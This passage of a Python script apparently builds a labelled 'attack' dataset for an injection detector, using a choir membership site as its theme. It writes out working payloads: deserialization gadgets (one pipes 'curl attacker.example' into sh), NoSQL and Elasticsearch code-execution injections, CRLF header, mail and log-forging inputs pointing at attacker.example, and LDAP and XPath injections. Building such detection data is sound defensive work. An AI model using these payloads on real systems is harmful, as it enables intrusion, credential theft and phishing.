    ("deserialization", "cos\nsystem\n(S'curl attacker.example|sh'\ntR."),
    ("deserialization", "!!python/object/apply:os.system [\"id\"]"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: '|id'"),
    ("deserialization", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
]

NOSQLI = [
    ("operator", "{\"email\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("operator", "{\"username\": \"ruth\", \"password\": {\"$gt\": \"\"}}"),
    ("operator", "password[$ne]=x"),
    ("operator", "email[$regex]=.*&password[$ne]=1"),
    ("operator", "{\"part\": {\"$in\": [\"S1\",\"S2\",\"A1\",\"A2\",\"T1\",\"T2\",\"B1\",\"B2\"]}, \"role\": {\"$ne\": \"member\"}}"),
    ("operator", "{\"paid\": {\"$exists\": false}}"),
    ("operator", "{\"token\": {\"$regex\": \"^a\"}}"),
    ("operator", "user[$nin][]=nobody"),
    ("operator", "{\"$or\": [{\"role\": \"admin\"}, {\"1\": 1}]}"),
    ("operator", "{\"amount\": {\"$lt\": 999999}, \"status\": {\"$ne\": \"refunded\"}}"),
    ("operator", "reset_token[$gt]="),
    ("operator", "{\"email\":\"ruth@example.org\",\"password\":{\"$regex\":\"^P\",\"$options\":\"i\"}}"),
    ("where", "{\"$where\": \"this.role == 'admin'\"}"),
    ("where", "'; return true; var x='"),
    ("where", "1; sleep(5000)"),
    ("where", "{\"$where\": \"sleep(3000) || true\"}"),
    ("where", "alto' && this.password.match(/^a/) && 'a'=='a"),
    ("where", "{\"$where\": \"function(){ return this.iban.length > 0 }\"}"),
    ("aggregate", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"member_id\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("aggregate", "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate", "[{\"$out\": \"members\"}]"),
    ("couch", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password_hash\"]}"),
    ("redis", "shenandoah\r\nFLUSHALL\r\n"),
    ("elastic", "alto OR _exists_:password"),
    ("elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("operator", "login[$ne]=&pass[$ne]="),
    ("operator", "{\"name\": {\"$regex\": \"(a+)+$\"}}"),
]

CRLF = [
    ("header", "Fauré\r\nSet-Cookie: session=attacker; Path=/"),
    ("header", "en-GB%0d%0aSet-Cookie:%20admin=1"),
    ("header", "/members%0D%0ALocation:%20https://attacker.example/"),
    ("header", "https://www.example.org/%0d%0aX-Injected:%20yes"),
    ("header", "S1%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("header", "back=/concerts%0aRefresh:%200;url=https://attacker.example/"),
    ("header", "de-DE\rContent-Security-Policy: script-src *"),
    ("header", "%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true"),
    ("splitting", "/programme%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("splitting", "x\r\n\r\n<html><body>Your choir account is suspended. <a href=https://attacker.example>Log in</a></body></html>"),
    ("splitting", "%0d%0a%0d%0a<svg onload=alert(1)>"),
    ("log-forging", "Ann Lee\n2024-05-02 19:31:07 INFO login success user=admin ip=10.0.0.1"),
    ("log-forging", "wrong-password\r\n[2024-05-02T19:30:00Z] AUDIT treasurer approved refund #77 amount=£600"),
    ("log-forging", "Bass 2%0a127.0.0.1 - admin [02/May/2024:19:30:00 +0000] \"GET /admin/export HTTP/1.1\" 200"),
    ("log-forging", "search=alto\nWARN subs check disabled by admin"),
    ("log-forging", "Thanks!\u2028INFO payment verified member=7 amount=60.00"),
    ("log-forging", "tenor%0d%0a%1b[2J%1b[31mSYSTEM COMPROMISED%1b[0m"),
    ("mail", "Ruth McAllister\r\nBcc: everyone@attacker.example"),
    ("mail", "Subs reminder%0aCc:%20list@attacker.example%0aX-Mailer:%20x"),
    ("mail", "member@example.org\nTo: victims@attacker.example\nSubject: Choir password reset"),
    ("mail", "Spring newsletter\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Pay your subs here</a>"),
    ("mail", "ann@example.org%0ABcc:all-members@attacker.example"),
    ("mail", "Question about the concert\nReply-To: treasurer@attacker.example"),
    ("mail", "\"Choir Treasurer\" <a@example.org>\r\nSender: t@attacker.example"),
    ("smtp", "hi\r\n.\r\nMAIL FROM:<md@example.org>\r\nRCPT TO:<x@attacker.example>\r\nDATA\r\nfake\r\n.\r\n"),
    ("csv-row", "Ann Lee\nEve Mallory,S1,eve@attacker.example,treasurer"),
    ("csv-row", "Bass 2\",\"paid\"\r\n\"Mallory\",\"B1\",\"paid"),
    ("csv-row", "note;ok\n=HYPERLINK(\"https://attacker.example\");click;x"),
    ("csv-row", "Lovely!\r\n99,Mallory,admin,2024-05-02"),
    ("header", "Sopran%0D%0ASet-Cookie%3A%20lang%3Dde%3B%20Domain%3D.example.org"),
]

LDAP_XPATH = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "ruth)(|(password=*)"),
    ("ldap", "admin)(&)"),
    ("ldap", "*)(objectClass=*"),
    ("ldap", "alto*)(memberOf=cn=admins,dc=choir,dc=example"),
    ("ldap", "x)(|(cn=*)(userPassword=a*))"),
    ("ldap", "ann*))%00"),
    ("ldap", "*)(|(mail=*@attacker.example)"),
    ("ldap", "tenor)(!(objectClass=nothing)"),
    ("ldap", "ruth)(|(objectClass=*))(cn=x"),
    ("xpath", "' or '1'='1"),
    ("xpath", "Ann' or name()='member' or 'a'='b"),
    ("xpath", "x' or count(/members/member)>0 or 'x'='y"),
    ("xpath", "'] | //member/password | a['"),
    ("xpath", "' or substring(//member[1]/iban,1,1)='G' or ''='"),
    ("xpath", "1 or 1=1"),
    ("xpath", "alto'] | //* | //*['"),
    ("xpath", "') or string-length(//user[role='admin']/pass)>5 or ('"),
    ("xpath", "' and doc('http://attacker.example/x.xml') or '"),
    ("xpath", "bass\" or contains(//secret,\"a\") or \"1\"=\"2"),
]


def gen_pool(rng, pool, prefixes, n, seen):
    out = []
    combos = [(p, q) for p in prefixes for q in pool]
    rng.shuffle(combos)
    for p, q in combos:
        v = p + q
        if v in seen:
            continue
        seen.add(v)
        out.append(v)
        if len(out) == n:
            break
    return out


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    benign = set()
    bpath = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    rows = []
    lit = 0

    def add(cat, cls, v, is_lit):
        nonlocal lit
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, v
        assert v not in seen, v
        for ch in v:
            o = ord(ch)
            assert o >= 32 or ch in "\n\r\t", repr(v)
            assert o != 127, repr(v)
        seen.add(v)
        rows.append((cat, cls, v))
        if is_lit:
            lit += 1

    for cls, v in SQLI:
        add("sqli", cls, v, True)
    for v in gen_pool(rng, SQLI_POOL, SQLI_PREFIX, 2, set(seen)):
        add("sqli", "prefixed", v, False)
    for cls, v in SQLI_URLENC:
        add("sqli", cls + "+urlencode", urlencode_all(v), False)
    for cls, v in XSS:
        add("xss", cls, v, True)
    for v in gen_pool(rng, XSS_POOL, XSS_PREFIX, 5, set(seen)):
        add("xss", "prefixed", v, False)
    for cls, v in CMDI:
        add("cmdi", cls, v, True)
    for v in gen_pool(rng, CMDI_POOL, CMDI_PREFIX, 4, set(seen)):
        add("cmdi", "prefixed", v, False)
    for cls, v in TRAVERSAL:
        add("traversal", cls, v, True)
    for cls, v in TRAV_URLENC:
        add("traversal", cls + "+urlencode", urlencode_all(v), False)
    for cls, v in SSRF:
        add("ssrf", cls, v, True)
    for cls, v in CODE:
        add("code", cls, v, True)
    for cls, v in NOSQLI:
        add("nosqli", cls, v, True)
    for cls, v in CRLF:
        add("crlf", cls, v, True)
    for cls, v in LDAP_XPATH:
        add("ldap-xpath", cls, v, True)

    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "haik-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    return rows, lit


if __name__ == "__main__":
    main()
